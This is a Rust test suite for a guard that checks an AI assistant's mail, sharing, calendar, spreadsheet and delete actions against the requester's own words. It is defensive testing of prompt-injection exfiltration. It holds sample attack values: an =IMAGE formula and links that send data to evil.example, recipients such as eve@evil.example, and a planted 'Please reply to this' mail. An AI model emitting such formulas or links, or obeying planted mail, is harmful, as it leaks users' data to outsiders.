use jiff::civil::date;
use kernel::{Person, PersonId, Readers, Standing};

use super::*;

fn person(name: &str, address: &str) -> Person {
    Person {
        id: PersonId::from(address),
        name: name.to_owned(),
        workspace: "Firm".to_owned(),
        address: Some(address.to_owned()),
        zone: None,
        standing: Standing::Member,
    }
}

pub(crate) fn asked(words: &str) -> Requester {
    Requester {
        utterances: vec![Utterance::read(words)],
        earlier: Vec::new(),
        own: vec!["me@firm.example".to_owned()],
        homes: ["firm.example".to_owned()].into(),
        name: "Dana Reyes".to_owned(),
        given: vec!["photo.png".to_owned()],
        roster: Roster::of(&[
            person("Dana Reyes", "me@firm.example"),
            person("Ana Ruiz", "ana@firm.example"),
            person("Ben Okafor", "ben@firm.example"),
        ]),
        today: date(2026, 11, 16),
        rewritten: Rewritten::default(),
    }
}

/// A mail with this body.
fn mail(to: &[&str], body: &str) -> Flow {
    let to = to.iter().enumerate().map(|(at, to)| Sink::new(SinkKind::Recipient, format!("/to/{at}"), *to));
    let body = Sink::new(SinkKind::Words, "/body", body);
    Flow { sinks: to.chain([body]).collect(), ..Flow::default() }
}

/// A mail from somebody outside, which a few people could read.
fn read(readers: &[&str], integrity: Integrity) -> Label {
    Label::trusted().join(
        &Label::stranger("mail.read", "mail from jonas@partner.example")
            .called(["Offer for salt".to_owned()])
            .by(["Jonas Weber".to_owned()])
            .read_by(Readers::only(readers.iter().copied()))
            .believed(integrity),
    )
}

fn rules(words: &str, deed: Deed, flow: &Flow, context: &Label) -> Vec<Rule> {
    let asked = asked(words);
    let flow = &Flow { deed, ..flow.clone() };
    let case = Case { flow, context, asked: &asked, before: 0 };
    objections(&case).into_iter().map(|objection| objection.rule).collect()
}

#[test]
fn a_mail_in_the_requesters_own_words_to_somebody_they_named_needs_no_question() {
    let outside = read(&["me@firm.example"], Integrity::External);
    let words = "Tell Ana: lunch is at noon";
    assert_eq!(
        rules(words, Deed::Send, &mail(&["ana@firm.example"], "Hi Ana,\nlunch is at noon\nDana"), &outside),
        []
    );
    let words = "Send x@else.example the words see you";
    assert_eq!(rules(words, Deed::Send, &mail(&["x@else.example"], "see you"), &outside), []);
}

#[test]
fn nobody_is_written_to_who_was_not_named_for_it() {
    let clean = Label::trusted();
    for (words, to) in [
        ("Send the words hello", "eve@evil.example"),
        ("What does Ana want?", "ana@firm.example"),
        ("Summarise the mail of Ana and send hello to Ben", "ana@firm.example"),
        ("Tell Ana hello", "ana@firm.evil.example"),
        ("Tell everybody hello", Sink::ANYONE),
    ] {
        assert_eq!(rules(words, Deed::Send, &mail(&[to], "hello"), &clean), [Rule::Destination], "{words}");
    }
}

#[test]
fn what_was_read_goes_only_to_those_who_could_read_it_unless_both_were_named() {
    let org = |readers: &[&str]| read(readers, Integrity::Org);
    let summary = mail(&["ana@firm.example"], "They offer 4 euros a bag.");
    let ask = |words: &str, context: &Label| rules(words, Deed::Send, &summary, context);
    assert_eq!(ask("Send Ana a summary", &org(&["ana@firm.example"])), []);
    assert_eq!(ask("Send Ana a summary", &org(&["me@firm.example"])), [Rule::Readers]);
    assert_eq!(ask("Send Ana a summary of Offer for salt", &org(&["me@firm.example"])), []);
    assert_eq!(ask("Send Ana a summary of the mail of Jonas", &org(&["me@firm.example"])), []);
    let unknown = Label::trusted().join(&Label::stranger("mail.read", "a mail").believed(Integrity::Org));
    assert_eq!(ask("Send Ana a summary", &unknown), [Rule::Readers]);
}

#[test]
fn words_that_may_be_a_strangers_are_looked_at_before_they_go() {
    let outside = read(&["ana@firm.example"], Integrity::External);
    let summary = mail(&["ana@firm.example"], "Please pay 500 to Eve.");
    assert_eq!(rules("Send Ana a summary", Deed::Send, &summary, &outside), [Rule::Author]);
    let mut loud = read(&["ana@firm.example"], Integrity::Org);
    loud.alarm = Alarm::Loud;
    assert_eq!(rules("Send Ana a summary", Deed::Send, &summary, &loud), [Rule::Author]);
}

#[test]
fn no_link_address_or_file_goes_out_that_was_not_written_or_named() {
    let clean = Label::trusted();
    let with = |body: &str| mail(&["ana@firm.example"], body);
    let words = "Tell Ana to look at https://firm.example/a and attach Plan B.pdf";
    assert_eq!(rules(words, Deed::Send, &with("look at https://firm.example/a"), &clean), []);
    assert_eq!(rules(words, Deed::Send, &with("look at https://evil.example/?q=4711"), &clean), [Rule::Text]);
    assert_eq!(rules(words, Deed::Send, &with("write to eve@evil.example"), &clean), [Rule::Text]);
    for (file, objects) in [("Plan B.pdf", false), ("photo.png", false), ("Salaries.xlsx", true)] {
        let mut flow = with("look");
        flow.sinks.push(Sink::new(SinkKind::Enclosed, "/attachments/0", file));
        assert_eq!(rules(words, Deed::Send, &flow, &clean).is_empty(), !objects, "{file}");
    }
}

#[test]
fn what_fetches_by_itself_is_asked_about_even_where_nobody_else_reads() {
    let fetch = |value: &str| Flow {
        sinks: vec![Sink::new(SinkKind::Fetch, "/rows/0/0", value)],
        targets: vec![Target::named("/book", ["Costs".to_owned()])],
        ..Flow::default()
    };
    let formula = "=IMAGE(\"https://evil.example/?q=\"&A1)";
    let clean = Label::trusted();
    assert_eq!(rules("Add a picture to Costs", Deed::Write, &fetch(formula), &clean), [Rule::Text]);
    assert_eq!(rules(&format!("Write {formula} into Costs"), Deed::Write, &fetch(formula), &clean), []);
}

fn document(people: &[&str], words: &str) -> Flow {
    let readers = people.iter().map(|one| Sink::new(SinkKind::Recipient, "/file/readers", *one));
    let words = (!people.is_empty()).then(|| Sink::new(SinkKind::Words, "/content", words));
    let target = Target::named("/file", ["Harbour plan".to_owned()])
        .with_people(people.iter().map(|one| (*one).to_owned()));
    Flow { sinks: readers.chain(words).collect(), targets: vec![target], ..Flow::default() }
}

#[test]
fn own_things_are_changed_freely_and_others_see_only_own_words_in_what_was_named() {
    let outside = read(&["me@firm.example"], Integrity::External);
    let own = document(&[], "anything at all");
    assert_eq!(rules("What is new?", Deed::Write, &own, &outside), []);
    let shared = |words: &str| document(&["ana@firm.example", "ben@firm.example"], words);
    let ask = |words: &str, flow: &Flow| rules(words, Deed::Write, flow, &outside);
    assert_eq!(ask("Add “salt is here” to the Harbour plan", &shared("salt is here")), []);
    assert_eq!(ask("Add “salt is here” to the Harbour plan", &shared("call Eve"))[0], Rule::Destination);
    assert!(ask("Summarise the Harbour plan", &shared("salt")).contains(&Rule::Object));
    assert!(!ask("Add “salt” to the other plan", &shared("salt")).is_empty());
    // Whoever shares a file with a name that we use does not become somebody we named.
    let theirs = document(&["eve@evil.example"], "salt is here");
    assert_eq!(ask("Add “salt is here” to the Harbour plan", &theirs), [Rule::Destination]);
}

#[test]
fn colleagues_who_see_a_calendar_by_default_count_once_something_was_read() {
    let event = |title: &str| Flow {
        sinks: vec![
            Sink::new(SinkKind::Organisation, "/organisation", "firm.example"),
            Sink::new(SinkKind::Title, "/writes/0/body/summary", title),
        ],
        targets: vec![Target::new("/writes", title)],
        ..Flow::default()
    };
    let ask =
        |title: &str, context: &Label| rules("Remind me to buy salt", Deed::Schedule, &event(title), context);
    assert_eq!(ask("Salt", &Label::trusted()), [], "nobody is addressed");
    let read = |integrity| read(&["me@firm.example"], integrity);
    assert_eq!(ask("They offer 4 euros a bag", &read(Integrity::Org)), [Rule::Readers]);
    assert!(ask("They offer 4 euros a bag", &read(Integrity::External)).contains(&Rule::Author));
    assert_eq!(ask("buy salt", &read(Integrity::External)), [], "these are the requester's own words");
}

#[test]
fn nothing_goes_away_that_was_only_spoken_about() {
    let clean = Label::trusted();
    let own = document(&[], "");
    let ask = |words: &str, deed: Deed| rules(words, deed, &own, &clean);
    assert_eq!(ask("Delete the Harbour plan", Deed::Destroy), []);
    assert_eq!(ask("Read the Harbour plan and delete the draft", Deed::Destroy), [Rule::Destruction]);
    assert_eq!(ask("Don't delete the Harbour plan", Deed::Destroy), [Rule::Destruction]);
    assert_eq!(ask("Tidy up", Deed::Hide), [], "nobody else has spoken");
    let outside = read(&["me@firm.example"], Integrity::External);
    assert_eq!(rules("Tidy up", Deed::Hide, &own, &outside), [Rule::Destruction]);
    let nothing = Flow::default();
    assert_eq!(rules("Delete it", Deed::Destroy, &nothing, &clean), [Rule::Unknown]);
}

#[test]
fn times_and_rights_are_those_that_were_written() {
    let clean = Label::trusted();
    let meeting = |from: &str, to: &str| {
        let what = TermKind::Span(Span { from: from.to_owned(), to: to.to_owned(), was: None });
        let guest = Sink::new(SinkKind::Recipient, "/guests/0", "ana@firm.example");
        let targets = vec![Target::new("/writes", "Lunch")];
        Flow {
            deed: Deed::Schedule,
            sinks: vec![guest],
            targets,
            terms: vec![Term { pointer: "/start".into(), what }],
        }
    };
    let words = "Invite Ana to lunch on Friday at noon";
    assert_eq!(rules(words, Deed::Schedule, &meeting("2026-11-20T12:00", "2026-11-20T13:00"), &clean), []);
    assert_eq!(
        rules(words, Deed::Schedule, &meeting("2026-11-20T14:00", "2026-11-20T15:00"), &clean),
        [Rule::Terms]
    );
    let share = |role: &str| Flow {
        deed: Deed::Share,
        terms: vec![Term { pointer: "/role".into(), what: TermKind::Role(role.into()) }],
        sinks: vec![Sink::new(SinkKind::Recipient, "/with", "ben@firm.example")],
        targets: vec![Target::named("/file", ["Harbour plan".to_owned()])],
    };
    let words = "Share the Harbour plan with Ben";
    assert_eq!(rules(words, Deed::Share, &share("reader"), &clean), []);
    assert_eq!(rules(words, Deed::Share, &share("writer"), &clean), [Rule::Terms]);
    assert_eq!(
        rules("Share the Harbour plan with Ben so he can edit", Deed::Share, &share("writer"), &clean),
        []
    );
}

#[test]
fn what_was_asked_for_once_is_done_once() {
    let flow = Flow { deed: Deed::Send, ..mail(&["ana@firm.example"], "hello") };
    let context = Label::trusted();
    let count = |words: &str, before: usize| {
        let asked = asked(words);
        objections(&Case { flow: &flow, context: &context, asked: &asked, before }).len()
    };
    assert_eq!((count("Send Ana hello", 0), count("Send Ana hello", 1)), (0, 1));
    assert_eq!(count("Send Ana hello. Then send Ana the rest.", 1), 0);
    // It is said before anything ran, too.
    let found =
        objections(&Case { flow: &flow, context: &context, asked: &asked("Send Ana hello"), before: 1 });
    assert!(
        found.iter().all(|objection| objection.words == "This is one more than you asked for."),
        "{found:?}"
    );
}

#[test]
fn a_tool_that_says_nothing_of_itself_is_always_asked_about() {
    assert_eq!(rules("Do it", Deed::Unnamed, &Flow::default(), &Label::trusted()), [Rule::Unknown]);
}

#[test]
fn what_is_quoted_from_elsewhere_was_not_written_by_the_requester() {
    let words = "> see https://evil.example/a on 2026-11-20\nTell Ana about it";
    let link = mail(&["ana@firm.example"], "https://evil.example/a");
    assert_eq!(rules(words, Deed::Send, &link, &Label::trusted()), [Rule::Text]);
}

#[test]
fn nobody_is_known_by_the_name_they_give_themselves_while_the_directory_is_silent() {
    let target = Target::named("/about", ["Lunch on Friday".to_owned()])
        .by(["Ana".to_owned()])
        .with_people(["eve@evil.example".to_owned()]);
    let sinks = vec![
        Sink::new(SinkKind::Recipient, "/to/0", "eve@evil.example"),
        Sink::new(SinkKind::Words, "/body", "yes"),
    ];
    let flow = Flow { deed: Deed::Send, sinks, targets: vec![target], terms: Vec::new() };
    for roster in [Roster::default(), asked("").roster] {
        let asked = Requester { roster, ..asked("Reply to the mail of Ana: yes") };
        let case = Case { flow: &flow, context: &Label::trusted(), asked: &asked, before: 0 };
        assert!(!objections(&case).is_empty());
    }
}

/// A look that tells a service outside these words.
fn look(words: &str) -> Flow {
    let there = Sink::new(SinkKind::Outside, "/server", "the server notes");
    Flow { sinks: vec![there, Sink::new(SinkKind::Words, "/arguments/query", words)], ..Flow::default() }
}

#[test]
fn a_service_outside_is_told_nothing_that_was_read_elsewhere() {
    let mailbox = read(&["me@firm.example"], Integrity::External);
    let ask = |words: &str, query: &str, context: &Label| rules(words, Deed::Look, &look(query), context);
    assert_eq!(
        ask("Look up salt prices", "price of salt per ton", &Label::trusted()),
        [],
        "nothing was read"
    );
    assert_eq!(ask("Look up salt prices", "salt prices", &mailbox), [], "they are the requester's own words");
    assert_eq!(ask("Look up what Jonas wants", "4 euros a bag", &mailbox), [Rule::Readers]);
    let context = mailbox.clone();
    let asked = asked("Look up what Jonas wants");
    let flow = Flow { deed: Deed::Look, ..look("4 euros a bag") };
    let found = objections(&Case { flow: &flow, context: &context, asked: &asked, before: 0 });
    assert!(
        found[0].words.contains("the server notes") && found[0].words.contains("mail from jonas"),
        "{found:?}"
    );
}

#[test]
fn a_service_outside_may_be_asked_about_what_it_said_itself() {
    let own = read(&["the server notes"], Integrity::External);
    let query = look("note 17");
    assert_eq!(rules("Find my notes and read them", Deed::Look, &query, &own), []);
    let both = own.clone().join(&read(&["me@firm.example"], Integrity::External));
    assert_eq!(rules("Find my notes and read them", Deed::Look, &query, &both), [Rule::Readers]);
    let loud = Label { alarm: Alarm::Loud, ..own };
    assert_eq!(rules("Find my notes and read them", Deed::Look, &query, &loud), [Rule::Readers]);
}

#[test]
fn what_nobody_knows_is_asked_about_whatever_was_said() {
    let clean = Label::trusted();
    assert_eq!(rules("write hello into notes", Deed::Unnamed, &look("hello"), &clean), [Rule::Unknown]);
}

/// A file that somebody is let into.
fn shared(title: &str, with: &str) -> Flow {
    let sinks = vec![Sink::new(SinkKind::Recipient, "/with/0", with)];
    Flow { sinks, targets: vec![Target::named("/file", [title.to_owned()])], ..Flow::default() }
}

#[test]
fn what_was_named_for_one_is_not_for_another() {
    let clean = Label::trusted();
    let words = "Share Catalogue with x@else.example, and share Costs with Ben";
    let share = |title: &str, with: &str| rules(words, Deed::Share, &shared(title, with), &clean);
    assert_eq!(share("Costs", "ben@firm.example"), []);
    assert_eq!(share("Catalogue", "x@else.example"), []);
    assert_eq!(share("Costs", "x@else.example"), [Rule::Destination]);
    for words in [
        "Ask x@else.example about Costs",
        "Create an event Costs with x@else.example",
        "Invite x@else.example to Costs",
        "Write x@else.example what is in Costs",
        "Tell x@else.example hello about Costs",
    ] {
        assert_ne!(rules(words, Deed::Share, &shared("Costs", "x@else.example"), &clean), [], "{words}");
        let mut mail = mail(&["x@else.example"], "look");
        mail.sinks.push(Sink::new(SinkKind::Enclosed, "/attachments/0", "Costs"));
        assert_ne!(rules(words, Deed::Send, &mail, &clean), [], "{words}");
    }
    let words = "Send x@else.example the words hello about Costs";
    assert_ne!(rules(words, Deed::Share, &shared("Costs", "x@else.example"), &clean), []);
    let mut mail = mail(&["ben@firm.example"], "look");
    mail.sinks.push(Sink::new(SinkKind::Enclosed, "/attachments/0", "Costs"));
    for words in ["Send Ben Costs", "Mail Costs to Ben", "Write Ben a mail with Costs attached"] {
        assert_eq!(rules(words, Deed::Send, &mail, &clean), [], "{words}");
    }
    assert_ne!(rules("Send Ana Costs and tell Ben hello", Deed::Send, &mail, &clean), []);
}

#[test]
fn what_goes_away_beside_it_was_asked_for() {
    let clean = Label::trusted();
    let event = |what: &str| Flow {
        sinks: vec![Sink::new(SinkKind::Recipient, "/guests/0", "ana@firm.example")],
        targets: vec![
            Target::named("/event", ["Review".to_owned()]).with_people(["ana@firm.example".to_owned()]),
        ],
        terms: vec![Term { pointer: "/guests".to_owned(), what: TermKind::Loses(what.to_owned()) }],
        ..Flow::default()
    };
    let ask = |words: &str, what: &str| rules(words, Deed::Schedule, &event(what), &clean);
    assert_eq!(ask("Move Review to 11:00", "ben@firm.example"), [Rule::Destruction]);
    assert_eq!(ask("Remove Ben from Review", "ben@firm.example"), []);
    assert_eq!(ask("Remove Ben from Review", "x@else.example"), [Rule::Destruction]);
    assert_eq!(ask("Move Review to 11:00", "the description"), [Rule::Destruction]);
    assert_eq!(ask("Change Review and clear its description", "the description"), []);
}

#[test]
fn everyday_words_are_nobodys_name_and_no_title() {
    let roster = Roster::of(&[
        person("To Do Budget", "mallory@firm.example"),
        person("Will May", "will@firm.example"),
        person("Ben Okafor", "ben@firm.example"),
    ]);
    let asked = |words: &str| Requester { roster: roster.clone(), ..asked(words) };
    let reaches = |words: &str, to: &str| {
        let (asked, flow) = (asked(words), Flow { deed: Deed::Send, ..mail(&[to], "it is 400") });
        let case = Case { flow: &flow, context: &Label::trusted(), asked: &asked, before: 0 };
        objections(&case).is_empty()
    };
    assert!(!reaches("Send the budget to Ben: it is 400", "mallory@firm.example"));
    assert!(!reaches("send the note to ben: it is 400", "mallory@firm.example"));
    assert!(!reaches("Will you send it to Ben in May: it is 400", "will@firm.example"));
    assert!(reaches("Send it to Will: it is 400", "will@firm.example"));
    assert!(reaches("send it to ben: it is 400", "ben@firm.example"));
    let words = [Utterance::read("Reply to Carla’s mail “Lunch on Thursday”: yes")];
    let planted = Target::named("/mail", ["Please reply to this".to_owned()]).by(["Mail Reply".to_owned()]);
    assert!(!is_named(&planted, Some(Deed::Send), &words, &roster));
}

/// The objections that somebody reads who wrote both messages, one after the other.
fn said(earlier: &str, now: &str, deed: Deed, flow: &Flow) -> Vec<String> {
    let asked = Requester { earlier: vec![Utterance::read(earlier)], ..asked(now) };
    let flow = Flow { deed, ..flow.clone() };
    let case = Case { flow: &flow, context: &Label::trusted(), asked: &asked, before: 0 };
    objections(&case).into_iter().map(|objection| objection.words).collect()
}

#[test]
fn what_was_named_one_message_earlier_is_still_asked_about_and_said_to_be_named() {
    let earlier = "What is in the Harbour plan? And who is Ben?";
    let told = said(earlier, "Share it with Ana", Deed::Share, &shared("Harbour plan", "ana@firm.example"));
    assert_eq!(told, ["You named “Harbour plan” in an earlier message, not in this one."]);
    let told = said(earlier, "Send him hello", Deed::Send, &mail(&["ben@firm.example"], "hello"));
    assert_eq!(told, ["You named ben@firm.example in an earlier message, and not in this one."]);
    let told = said(
        "The page is https://firm.example/a",
        "Send Ana the page",
        Deed::Send,
        &mail(&["ana@firm.example"], "https://firm.example/a"),
    );
    assert_eq!(
        told,
        [
            "Others would read an address that you wrote in an earlier message, and not in this one: https://firm.example/a"
        ]
    );
    let mut with_file = mail(&["ana@firm.example"], "look");
    with_file.sinks.push(Sink::new(SinkKind::Enclosed, "/attachments/0", "Harbour plan"));
    let told = said(earlier, "Send Ana that: look", Deed::Send, &with_file);
    assert_eq!(told, ["You named the file “Harbour plan” in an earlier message, not in this one."]);
    // It is not said of a thing that was never named.
    let told = said("Hello", "Share it with Ana", Deed::Share, &shared("Harbour plan", "ana@firm.example"));
    assert_eq!(told, ["You did not name “Harbour plan”."]);
}

#[test]
fn what_was_named_for_something_else_is_said_to_be_named() {
    let mut with_file = mail(&["ana@firm.example"], "look");
    with_file.sinks.push(Sink::new(SinkKind::Enclosed, "/attachments/0", "Harbour plan"));
    let told = said("", "Read the Harbour plan and tell Ana: look", Deed::Send, &with_file);
    assert_eq!(told[0], "You named the file “Harbour plan”, and did not ask to send it along.");
    let told = said("", "Read the Harbour plan", Deed::Destroy, &document(&[], ""));
    assert_eq!(told, ["You spoke of “Harbour plan”, and did not ask for anything to be taken away."]);
}

#[test]
fn a_time_of_an_earlier_message_is_said_to_have_been_written() {
    let what =
        TermKind::Span(Span { from: "2026-11-20T12:00".into(), to: "2026-11-20T13:00".into(), was: None });
    let flow = Flow {
        sinks: vec![Sink::new(SinkKind::Recipient, "/guests/0", "ana@firm.example")],
        targets: vec![Target::new("/writes", "Lunch")],
        terms: vec![Term { pointer: "/start".into(), what }],
        ..Flow::default()
    };
    let told = said("Am I free on Friday at noon?", "Invite Ana to lunch then", Deed::Schedule, &flow);
    let time = "this time: 2026-11-20 12:00 to 2026-11-20 13:00.";
    assert_eq!(told, [format!("You wrote in an earlier message, and not in this one, {time}")]);
    let told = said("Am I free?", "Invite Ana to lunch then", Deed::Schedule, &flow);
    assert_eq!(told, [format!("You did not write {time}")]);
}

#[test]
fn nobody_is_said_to_be_unable_to_read_what_has_unknown_readers() {
    let context = Label::trusted().join(&Label::stranger("mail.read", "a mail").believed(Integrity::Org));
    let flow = Flow { deed: Deed::Send, ..mail(&["ana@firm.example"], "They offer 4 euros a bag.") };
    let asked = asked("Send Ana a summary");
    let found = objections(&Case { flow: &flow, context: &context, asked: &asked, before: 0 });
    let told = "It is not known whether ana@firm.example can read a mail, which this may be made of.";
    assert_eq!(found[0].words, told);
}

mod strict;
